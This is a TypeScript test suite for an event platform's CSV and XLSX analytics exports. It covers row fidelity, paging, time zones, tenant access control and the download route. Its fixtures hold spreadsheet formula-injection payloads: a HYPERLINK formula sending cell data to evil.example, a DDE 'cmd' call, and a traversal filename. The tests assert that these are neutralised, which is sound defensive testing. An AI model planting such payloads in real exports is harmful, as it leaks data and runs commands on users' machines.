// The analytics exports against a real PostgreSQL (lib/analytics/exports; docs/analytics.md → "Exports"):
// every dataset's CSV equals the table rows (counts, values, times in the event's zone), keyset pages
// never skip or repeat a row, the streamed XLSX opens with a sheet per dataset and the right rows,
// formula injection is neutralised in both, who may export (another tenant, a participant → NOT_FOUND),
// an empty event exports headers only, and the route handler (files, 404s, headers).
import { randomUUID } from "node:crypto";
import { strFromU8, unzipSync } from "fflate";
import { encode } from "next-auth/jwt";
import { createElement } from "react";
import { renderToStaticMarkup } from "react-dom/server";
import { describe, expect, test } from "vitest";
import { AttendeePrintList } from "@/components/analytics/attendee-print-list";
import { GET as exportRoute } from "@/app/api/events/[eventId]/exports/[file]/route";
import { exportEventCsv, exportEventXlsx, listAttendeesForPrint, type PrintAttendeeList } from "@/lib/analytics";
import { EXPORT_DATASETS, eventExportPath } from "@/lib/analytics/paths";
import { db } from "@/lib/db";
import { authSecret } from "@/lib/env";
import { AppError, type ErrorCode } from "@/lib/errors";
import type { User } from "@/lib/generated/prisma/client";
import { formatZoned } from "@/lib/http/csv";
import { pick, translatorFor } from "@/lib/i18n/catalogue";
import { I18nProvider } from "@/lib/i18n/client";
import { createSessionForUser } from "@/lib/identity/user-sessions";
import { actorOf, type Actor } from "@/lib/permissions";
import { addMember, createCheckIn, createEvent, createOrganization, createRegistration, createTicketType, createUser, uniqueEmail } from "@/tests/helpers/factories";

const as = (u: Pick<User, "id" | "isPlatformAdmin">): Actor => actorOf(u)!;
const TZ = "Asia/Vladivostok";

async function expectAppError(promise: Promise<unknown>, code: ErrorCode): Promise<void> {
  const error = await promise.then(
    () => undefined,
    (e: unknown) => e,
  );
  expect(error, `expected AppError ${code}`).toBeInstanceOf(AppError);
  expect((error as AppError).code).toBe(code);
}

async function readAll(stream: ReadableStream<Uint8Array>): Promise<Uint8Array> {
  const chunks: Uint8Array[] = [];
  const reader = stream.getReader();
  for (;;) {
    const { done, value } = await reader.read();
    if (done) break;
    chunks.push(value);
  }
  return Buffer.concat(chunks);
}

/** RFC 4180 (CRLF) → rows of cells; the BOM is checked and dropped. */
function parseCsv(bytes: Uint8Array): string[][] {
  const text = new TextDecoder("utf-8", { ignoreBOM: true }).decode(bytes);
  expect(text.startsWith("\uFEFF")).toBe(true);
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = "";
  let quoted = false;
  for (let i = 1; i < text.length; i++) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ",") {
      row.push(cell);
      cell = "";
    } else if (c === "\r" && text[i + 1] === "\n") {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = "";
      i++;
    } else cell += c;
  }
  if (cell || row.length) rows.push([...row, cell]);
  return rows;
}

async function csvOf(actor: Actor, eventId: string, dataset: string, options: { locale?: "ru" | "en"; pageSize?: number } = {}) {
  const file = await exportEventCsv({ actor, eventId, dataset, ...options });
  return { file, rows: parseCsv(await readAll(file.stream)) };
}

type Sheet = { name: string; rows: { cells: Map<string, { type: string | null; style: string | null; text: string }> }[]; xml: string };

/** Unzips the workbook and reads each sheet's cells (inline strings and values) back from the XML. */
function readWorkbook(bytes: Uint8Array): Sheet[] {
  const files = unzipSync(bytes);
  for (const part of ["[Content_Types].xml", "_rels/.rels", "xl/workbook.xml", "xl/_rels/workbook.xml.rels", "xl/styles.xml"]) {
    expect(files[part], part).toBeDefined();
  }
  const workbook = strFromU8(files["xl/workbook.xml"]);
  const names = [...workbook.matchAll(/<sheet name="([^"]*)" sheetId="(\d+)"/g)].map((m) => m[1]);
  return names.map((name, i) => {
    const xml = strFromU8(files[`xl/worksheets/sheet${i + 1}.xml`]);
    const rows = [...xml.matchAll(/<row r="\d+">(.*?)<\/row>/g)].map((m) => ({
      cells: new Map(
        [...m[1].matchAll(/<c r="([A-Z]+)\d+"(?: t="([a-zA-Z]+)")?(?: s="(\d+)")?>(?:<is><t xml:space="preserve">(.*?)<\/t><\/is>|<v>(.*?)<\/v>)<\/c>/g)].map((c) => [
          c[1],
          { type: c[2] ?? null, style: c[3] ?? null, text: (c[4] ?? c[5]).replace(/&lt;/g, "<").replace(/&gt;/g, ">").replace(/&quot;/g, '"').replace(/&amp;/g, "&") },
        ]),
      ),
    }));
    return { name, rows, xml };
  });
}

/** The XLSX date cell of a CSV time ("YYYY-MM-DD HH:MM:SS" in the zone) back as that text. */
function serialToText(serial: string): string {
  const ms = Math.round((Number(serial) - 25_569) * 86_400_000);
  return new Date(ms).toISOString().replace("T", " ").slice(0, 19);
}

const INJECTIONS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd"];

async function world() {
  const { organization, owner } = await createOrganization();
  const event = await createEvent(organization, { timezone: TZ });
  const free = await createTicketType(event, { name: "Бесплатный", sortOrder: 0, quantity: null });
  const paid = await createTicketType(event, { name: "Платный", priceCents: 150_000, sortOrder: 1, quantity: null });
  const t0 = Date.UTC(2027, 2, 15, 9, 0, 0);
  const at = (minutes: number) => new Date(t0 + minutes * 60_000);
  const evil = await createRegistration(event, free, { firstName: INJECTIONS[0], lastName: INJECTIONS[1], email: uniqueEmail("evil"), createdAt: at(1) });
  const anna = await createRegistration(event, paid, { user: await createUser({ firstName: "Анна", lastName: "Иванова" }), createdAt: at(2) });
  const ivan = await createRegistration(event, paid, { user: await createUser({ firstName: "Иван", lastName: "Петров" }), status: "CHECKED_IN", createdAt: at(3) });
  const gone = await createRegistration(event, free, { firstName: INJECTIONS[2], lastName: "Отменов", status: "CANCELLED", createdAt: at(4) });
  // two rows with the same created_at: the keyset (created_at, id) must keep both
  const twinA = await createRegistration(event, free, { firstName: "Близнец", lastName: "Первый", createdAt: at(5) });
  const twinB = await createRegistration(event, free, { firstName: "Близнец", lastName: "Второй", createdAt: at(5) });

  const staff = await createUser({ firstName: "Сергей", lastName: "Контролёр" });
  await addMember(organization, staff, "MODERATOR", owner);
  const ci1 = await createCheckIn(ivan, { checkedInById: staff.id, method: "QR_SCAN", deviceId: "door-1", checkedInAt: at(600) });
  const ci2 = await createCheckIn(evil, { method: "MANUAL", checkedInAt: at(601) });

  // a payment with a completed refund: two lines (payment, refund)
  const payment = await db.payment.create({
    data: {
      organizationId: organization.id,
      registrationId: anna.id,
      provider: "manual",
      status: "COMPLETED",
      amountCents: 150_000,
      currency: "RUB",
      idempotencyKey: randomUUID(),
      completedAt: at(10),
      createdAt: at(10),
    },
  });
  const refund = await db.refund.create({ data: { paymentId: payment.id, amountCents: 50_000, reason: INJECTIONS[2], status: "PENDING", origin: "organizer" } });
  await db.refund.update({ where: { id: refund.id }, data: { status: "COMPLETED", completedAt: at(20) } });
  await db.payment.update({ where: { id: payment.id }, data: { status: "PARTIALLY_REFUNDED", refundedCents: 50_000 } });

  const waiter = await createUser({ firstName: "Ольга", lastName: "Ждущая" });
  await db.waitlistEntry.create({ data: { eventId: event.id, userId: waiter.id, position: 1, createdAt: at(30) } });
  await db.waitlistEntry.create({
    data: { eventId: event.id, email: uniqueEmail("wl"), firstName: INJECTIONS[0], position: 2, status: "NOTIFIED", notifiedAt: at(40), expiresAt: at(100), ticketTypeId: paid.id, createdAt: at(31) },
  });
  await db.waitlistEntry.create({ data: { eventId: event.id, email: uniqueEmail("wl"), firstName: "Пётр", position: 3, status: "EXPIRED", createdAt: at(32) } });

  return { organization, owner, staff, event, free, paid, at, evil, anna, ivan, gone, twinA, twinB, ci1, ci2, payment, refund, waiter };
}

describe("exportEventCsv", () => {
  test("registrations: one row per table row, oldest first, the CSV's columns, times in the event's zone; keyset pages skip and repeat nothing", async () => {
    const w = await world();
    const { file, rows } = await csvOf(as(w.owner), w.event.id, "registrations", { locale: "ru" });
    expect(file.filename).toBe(`${w.event.slug}-registrations.csv`);
    expect(file.contentType).toBe("text/csv; charset=utf-8");
    const [header, ...body] = rows;
    expect(header.slice(0, 3)).toEqual(["Код", "Статус", "Имя"]);
    expect(header).toContain(`Создана (${TZ})`);
    const count = await db.registration.count({ where: { eventId: w.event.id } });
    expect(body).toHaveLength(count);
    expect(count).toBe(6);
    const codes = body.map((r) => r[0]);
    expect(new Set(codes).size).toBe(6);
    expect(codes.slice(0, 4)).toEqual([w.evil.confirmationCode, w.anna.confirmationCode, w.ivan.confirmationCode, w.gone.confirmationCode]);
    const created = header.indexOf(`Создана (${TZ})`);
    const annaRow = body.find((r) => r[0] === w.anna.confirmationCode)!;
    expect(annaRow[created]).toBe(formatZoned(w.anna.createdAt, TZ));
    expect(annaRow[created]).toBe("2027-03-15 19:02:00"); // 09:02 UTC = 19:02 in Vladivostok (UTC+10)
    expect(annaRow.slice(2, 6)).toEqual(["Анна", "Иванова", w.anna.email, "Платный"]);
    expect(body.find((r) => r[0] === w.gone.confirmationCode)![1]).toBe("Отменена");

    // pages of 2 rows (the twins share created_at): the same rows, in the same order
    const paged = await csvOf(as(w.owner), w.event.id, "registrations", { locale: "ru", pageSize: 2 });
    expect(paged.rows).toEqual(rows);
  });

  test("payments and refunds: a line per payment and per refund, equal to the tables", async () => {
    const w = await world();
    const { rows } = await csvOf(as(w.owner), w.event.id, "payments", { locale: "en" });
    const [header, ...body] = rows;
    expect(header[1]).toBe(`Date (event time zone): ${TZ}`);
    const payments = await db.payment.count({ where: { registration: { eventId: w.event.id } } });
    const refunds = await db.refund.count({ where: { payment: { registration: { eventId: w.event.id } } } });
    expect(body).toHaveLength(payments + refunds);
    expect(body.map((r) => r[0])).toEqual(["payment", "refund"]);
    expect(body[0].slice(1, 9)).toEqual([formatZoned(w.payment.completedAt, TZ), "Partly refunded", "Manual", "", "1500.00", "500.00", "RUB", w.anna.confirmationCode]);
    expect(body[1][1]).toBe("2027-03-15 19:20:00");
    expect(body[1][5]).toBe("500.00");
    expect(body[1][13]).toBe(w.payment.id);
    expect(body[1][14]).toBe(`'${INJECTIONS[2]}`);

    // a second payment (later): pages of one payment give the same lines, oldest payment first
    await db.payment.create({
      data: { organizationId: w.organization.id, registrationId: w.ivan.id, provider: "manual", status: "PENDING", amountCents: 150_000, currency: "RUB", idempotencyKey: randomUUID(), createdAt: w.at(50) },
    });
    const all = await csvOf(as(w.owner), w.event.id, "payments", { locale: "en" });
    expect(all.rows).toHaveLength(4);
    expect(all.rows[3].slice(0, 3)).toEqual(["payment", "2027-03-15 19:50:00", "Created"]);
    expect((await csvOf(as(w.owner), w.event.id, "payments", { locale: "en", pageSize: 1 })).rows).toEqual(all.rows);
  });

  test("check-ins: who, code, type, time, method, staff and device, by the scan's time", async () => {
    const w = await world();
    const { rows } = await csvOf(as(w.owner), w.event.id, "check-ins", { locale: "en" });
    const [header, ...body] = rows;
    expect(header).toEqual([`Checked in at (${TZ})`, "First name", "Last name", "Email", "Code", "Ticket type", "Method", "Checked in by", "Device"]);
    expect(body).toHaveLength(await db.checkIn.count({ where: { eventId: w.event.id } }));
    expect(body[0]).toEqual([formatZoned(w.ci1.checkedInAt, TZ), "Иван", "Петров", w.ivan.email, w.ivan.confirmationCode, "Платный", "QR code", "Сергей Контролёр", "door-1"]);
    expect(body[0][0]).toBe("2027-03-16 05:00:00");
    expect(body[1]).toEqual([formatZoned(w.ci2.checkedInAt, TZ), `'${INJECTIONS[0]}`, `'${INJECTIONS[1]}`, w.evil.email, w.evil.confirmationCode, "Бесплатный", "Manual", "", ""]);
  });

  test("waitlist: position, name, email, type, status, offered, by position", async () => {
    const w = await world();
    const { rows } = await csvOf(as(w.owner), w.event.id, "waitlist", { locale: "ru" });
    const [header, ...body] = rows;
    expect(header[0]).toBe("Место в очереди");
    expect(header).toContain(`Место предложено (${TZ})`);
    expect(body).toHaveLength(await db.waitlistEntry.count({ where: { eventId: w.event.id } }));
    expect(body.map((r) => r[0])).toEqual(["1", "2", "3"]);
    expect(body[0].slice(1, 6)).toEqual(["Ольга", "Ждущая", w.waiter.email, "любой", "Ждёт"]);
    expect(body[1][1]).toBe(`'${INJECTIONS[0]}`);
    expect(body[1].slice(4, 9)).toEqual(["Платный", "Предложено место", "2027-03-15 19:31:00", "2027-03-15 19:40:00", "2027-03-15 20:40:00"]);
    expect(body[2][5]).toBe("Предложение истекло");
  });

  test("formula injection in a participant's name is neutralised (a leading ')", async () => {
    const w = await world();
    const { rows } = await csvOf(as(w.owner), w.event.id, "registrations");
    const evil = rows.find((r) => r[0] === w.evil.confirmationCode)!;
    expect(evil[2]).toBe(`'${INJECTIONS[0]}`);
    expect(evil[3]).toBe(`'${INJECTIONS[1]}`);
    expect(rows.find((r) => r[0] === w.gone.confirmationCode)![2]).toBe(`'${INJECTIONS[2]}`);
    // no cell of any dataset starts with a formula character
    for (const dataset of EXPORT_DATASETS) {
      const { rows: all } = await csvOf(as(w.owner), w.event.id, dataset);
      for (const row of all) for (const cell of row) expect(cell, `${dataset}: ${cell}`).not.toMatch(/^[=+@\t\r]/);
    }
  });

  test("an empty event exports the header only; an unknown dataset is VALIDATION", async () => {
    const { organization, owner } = await createOrganization();
    const event = await createEvent(organization, { timezone: TZ });
    for (const dataset of EXPORT_DATASETS) {
      const { rows } = await csvOf(as(owner), event.id, dataset);
      expect(rows, dataset).toHaveLength(1);
      expect(rows[0].length).toBeGreaterThan(3);
    }
    await expectAppError(exportEventCsv({ actor: as(owner), eventId: event.id, dataset: "users" }), "VALIDATION");
  });
});

describe("exportEventXlsx", () => {
  test("one sheet per dataset with the CSV's rows; dates, money and neutralised text; never a formula", async () => {
    const w = await world();
    const file = await exportEventXlsx({ actor: as(w.owner), eventId: w.event.id, locale: "en", pageSize: 2 });
    expect(file.filename).toBe(`${w.event.slug}-event.xlsx`);
    expect(file.contentType).toBe("application/vnd.openxmlformats-officedocument.spreadsheetml.sheet");
    const sheets = readWorkbook(await readAll(file.stream));
    expect(sheets.map((s) => s.name)).toEqual(["Registrations", "Payments and refunds", "Check-ins", "Waitlist"]);
    const counts = [
      await db.registration.count({ where: { eventId: w.event.id } }),
      (await db.payment.count({ where: { registration: { eventId: w.event.id } } })) + (await db.refund.count({ where: { payment: { registration: { eventId: w.event.id } } } })),
      await db.checkIn.count({ where: { eventId: w.event.id } }),
      await db.waitlistEntry.count({ where: { eventId: w.event.id } }),
    ];
    expect(sheets.map((s) => s.rows.length - 1)).toEqual(counts);
    for (const sheet of sheets) {
      expect(sheet.xml).not.toMatch(/<f[ >]/);
      // every string cell is an inline string and none starts with a formula character
      for (const row of sheet.rows) for (const cell of row.cells.values()) if (cell.type === "inlineStr") expect(cell.text).not.toMatch(/^[=+\-@\t\r]/);
    }

    // registrations: the same cells as the CSV, typed
    const { rows: csv } = await csvOf(as(w.owner), w.event.id, "registrations", { locale: "en" });
    const regs = sheets[0].rows;
    expect(regs[0].cells.get("A")).toEqual({ type: "inlineStr", style: "1", text: "Code" });
    expect(regs.slice(1).map((r) => r.cells.get("A")!.text)).toEqual(csv.slice(1).map((r) => r[0]));
    const evil = regs.find((r) => r.cells.get("A")!.text === w.evil.confirmationCode)!;
    expect(evil.cells.get("C")!.text).toBe(`'${INJECTIONS[0]}`);
    expect(evil.cells.get("D")!.text).toBe(`'${INJECTIONS[1]}`);
    const created = csv[0].indexOf(`Created (${TZ})`);
    const col = String.fromCharCode(65 + created);
    const anna = regs.find((r) => r.cells.get("A")!.text === w.anna.confirmationCode)!;
    expect(anna.cells.get(col)!.style).toBe("2"); // a date cell
    expect(serialToText(anna.cells.get(col)!.text)).toBe("2027-03-15 19:02:00");
    expect(anna.cells.get("G")).toEqual({ type: null, style: "3", text: "1500" }); // the price, a number

    // check-ins and waitlist values
    expect(sheets[2].rows[1].cells.get("H")!.text).toBe("Сергей Контролёр");
    expect(sheets[3].rows[2].cells.get("B")!.text).toBe(`'${INJECTIONS[0]}`);
    expect(sheets[3].rows[1].cells.get("A")).toEqual({ type: null, style: null, text: "1" });
  });

  test("an empty event: four sheets with their header rows only", async () => {
    const { organization, owner } = await createOrganization();
    const event = await createEvent(organization);
    const sheets = readWorkbook(await readAll((await exportEventXlsx({ actor: as(owner), eventId: event.id, locale: "ru" })).stream));
    expect(sheets.map((s) => s.name)).toEqual(["Регистрации", "Платежи и возвраты", "Отметки на входе", "Лист ожидания"]);
    expect(sheets.map((s) => s.rows.length)).toEqual([1, 1, 1, 1]);
  });
});

describe("who may export", () => {
  test("a moderator may; another organization's moderator, a participant, a deleted event → NOT_FOUND; anonymous → UNAUTHENTICATED", async () => {
    const w = await world();
    const { rows } = await csvOf(as(w.staff), w.event.id, "check-ins");
    expect(rows).toHaveLength(3);

    const other = await createOrganization();
    const foreignModerator = await createUser();
    await addMember(other.organization, foreignModerator, "MODERATOR", other.owner);
    const participant = await db.user.findUniqueOrThrow({ where: { id: w.anna.userId! } });
    for (const actor of [as(foreignModerator), as(other.owner), as(participant)]) {
      for (const dataset of EXPORT_DATASETS) await expectAppError(exportEventCsv({ actor, eventId: w.event.id, dataset }), "NOT_FOUND");
      await expectAppError(exportEventXlsx({ actor, eventId: w.event.id }), "NOT_FOUND");
    }
    await expectAppError(exportEventCsv({ actor: as(w.owner), eventId: "not-a-uuid", dataset: "registrations" }), "NOT_FOUND");
    await expectAppError(exportEventXlsx({ actor: null, eventId: w.event.id }), "UNAUTHENTICATED");
    await db.event.update({ where: { id: w.event.id }, data: { deletedAt: new Date() } });
    await expectAppError(exportEventXlsx({ actor: as(w.owner), eventId: w.event.id }), "NOT_FOUND");
  });
});

const COOKIE = "authjs.session-token";
async function cookieFor(user: User): Promise<string> {
  const session = await createSessionForUser(user.id);
  const token = await encode({ token: { sub: user.id, sid: session.id }, secret: authSecret(), salt: COOKIE, maxAge: 3600 });
  return `${COOKIE}=${token}`;
}

describe("GET /api/events/:eventId/exports/:file", () => {
  const call = (eventId: string, file: string, cookie?: string) =>
    exportRoute(new Request(`http://localhost/api/events/${eventId}/exports/${file}`, { headers: cookie ? { cookie } : {} }), {
      params: Promise.resolve({ eventId, file }),
    });

  test("each file streams as an attachment in the UI language; unknown file → 404; another tenant → 404 for every file; no session → 401", async () => {
    const w = await world();
    const cookie = `${await cookieFor(w.owner)}; locale=en`;
    for (const dataset of EXPORT_DATASETS) {
      const path = eventExportPath(w.event.id, "csv", dataset);
      const file = path.split("/").pop()!;
      const response = await call(w.event.id, file, cookie);
      expect(response.status, file).toBe(200);
      expect(response.headers.get("content-type")).toBe("text/csv; charset=utf-8");
      expect(response.headers.get("content-disposition")).toBe(`attachment; filename="${w.event.slug}-${dataset}.csv"`);
      expect(response.headers.get("cache-control")).toBe("no-store");
      expect(response.headers.get("x-content-type-options")).toBe("nosniff");
      const rows = parseCsv(new Uint8Array(await response.arrayBuffer()));
      if (dataset === "registrations") {
        expect(rows[0][0]).toBe("Code");
        expect(rows).toHaveLength(7);
      }
    }
    const xlsx = await call(w.event.id, "event.xlsx", cookie);
    expect(xlsx.status).toBe(200);
    expect(xlsx.headers.get("content-disposition")).toBe(`attachment; filename="${w.event.slug}-event.xlsx"`);
    expect(readWorkbook(new Uint8Array(await xlsx.arrayBuffer())).map((s) => s.rows.length)).toEqual([7, 3, 3, 4]);

    for (const unknown of ["users.csv", "event.csv", "registrations.xlsx", "..%2Fregistrations.csv", "registrations.CSV"]) {
      expect((await call(w.event.id, unknown, cookie)).status, unknown).toBe(404);
    }
    const foreign = await cookieFor((await createOrganization()).owner);
    for (const file of ["registrations.csv", "payments.csv", "check-ins.csv", "waitlist.csv", "event.xlsx"]) {
      const response = await call(w.event.id, file, foreign);
      expect(response.status, file).toBe(404);
      expect((await response.json()).code).toBe("NOT_FOUND");
    }
    expect((await call(w.event.id, "event.xlsx")).status).toBe(401);
  });
});

/** The list component as the page renders it (English texts, the Print button's provider). */
function renderPrintList(list: PrintAttendeeList): string {
  const provider = { locale: "en", messages: pick("en", ["analyticsExports.print"]) } as Parameters<typeof I18nProvider>[0];
  return renderToStaticMarkup(createElement(I18nProvider, provider, createElement(AttendeePrintList, { list, t: translatorFor("en"), locale: "en", backHref: "/x" })));
}

describe("listAttendeesForPrint", () => {
  test("everyone expected (CONFIRMED, CHECKED_IN) by last name then first name, checked-in marked; one server-rendered table", async () => {
    const { organization, owner } = await createOrganization();
    const event = await createEvent(organization, { timezone: TZ });
    const type = await createTicketType(event, { name: "Стандарт", quantity: null });
    const people: [string, string | null, "CONFIRMED" | "CHECKED_IN" | "CANCELLED" | "PENDING"][] = [
      ["Мария", "Яковлева", "CONFIRMED"],
      ["Анна", "ёлкина", "CONFIRMED"],
      ["Борис", "Елкин", "CHECKED_IN"],
      ["Аркадий", "Елкин", "CONFIRMED"],
      ["Пётр", "Отменов", "CANCELLED"],
      ["Павел", "Ждущий", "PENDING"],
      ["Гость", null, "CONFIRMED"],
    ];
    const regs = [];
    for (const [firstName, lastName, status] of people) regs.push(await createRegistration(event, type, { firstName, lastName, email: uniqueEmail("p"), status }));
    const arrived = await createCheckIn(regs[2], { checkedInAt: new Date(Date.UTC(2027, 2, 15, 9, 5, 0)) });

    const list = await listAttendeesForPrint({ actor: as(owner), eventId: event.id, organizationSlug: organization.slug, locale: "ru" });
    const expected = await db.registration.count({ where: { eventId: event.id, status: { in: ["CONFIRMED", "CHECKED_IN"] } } });
    expect(list.attendees).toHaveLength(expected);
    expect(list.attendees.map((a) => `${a.lastName ?? ""} ${a.firstName}`)).toEqual(["Елкин Аркадий", "Елкин Борис", "ёлкина Анна", "Яковлева Мария", " Гость"]);
    expect(list.attendees.filter((a) => a.checkedIn).map((a) => a.code)).toEqual([regs[2].confirmationCode]);
    expect(list.attendees[1].checkedInAt).toEqual(arrived.checkedInAt);
    expect(list.checkedIn).toBe(1);
    expect(list.attendees[0]).toMatchObject({ ticketType: "Стандарт", code: regs[3].confirmationCode });

    const html = renderPrintList(list);
    expect(html.match(/<table/g)).toHaveLength(1);
    expect(html.match(/<tbody>.*<\/tbody>/s)![0].match(/<tr /g)).toHaveLength(expected);
    expect(html.match(/data-checked-in="true"/g)).toHaveLength(1);
    expect(html).toContain("checked in 19:05"); // 09:05 UTC in Vladivostok
    expect(html).toContain("Attendee list");
    expect(html).toContain("print:table-header-group");

    // another organization's staff, the wrong slug, a participant → NOT_FOUND
    const other = await createOrganization();
    await expectAppError(listAttendeesForPrint({ actor: as(other.owner), eventId: event.id, locale: "ru" }), "NOT_FOUND");
    await expectAppError(listAttendeesForPrint({ actor: as(owner), eventId: event.id, organizationSlug: other.organization.slug, locale: "ru" }), "NOT_FOUND");
    await expectAppError(listAttendeesForPrint({ actor: as(await createUser()), eventId: event.id, locale: "ru" }), "NOT_FOUND");

    // an empty event: nobody expected, the empty state
    const empty = await createEvent(organization);
    const none = await listAttendeesForPrint({ actor: as(owner), eventId: empty.id, locale: "en" });
    expect(none.attendees).toEqual([]);
    const emptyHtml = renderPrintList(none);
    expect(emptyHtml).not.toContain("<table");
    expect(emptyHtml).toContain("Nobody is expected yet");
  });
});
